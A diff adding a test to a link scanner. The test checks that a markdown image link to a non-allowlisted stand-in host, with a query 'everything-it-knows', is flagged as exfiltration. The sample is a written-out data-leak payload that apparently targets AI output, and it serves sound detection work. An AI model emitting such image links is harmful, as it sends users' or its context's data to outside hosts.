@@ -160,3 +160,10 @@ def test_what_a_stream_holds_back() -> None:
     (found,) = Links("l", longest_address=200).scan(Text(text))
     assert found.end - found.begin <= 200
     assert Links("l", longest_address=200).longest == 500
+
+
+def test_a_link_right_behind_another_one_is_judged_too() -> None:
+    text = "[a](https://ok.example/)[b](https://elsewhere.example/x)![c](https://elsewhere.example/?q=everything-it-knows)"
+    found = [(f.kind, text[f.begin : f.end]) for f in Links("l", ["ok.example"]).scan(Text(text))]
+    assert [kind for kind, _ in found] == ["link", "exfiltration"]
+    assert all(value.startswith("https://elsewhere.example/") for _, value in found)
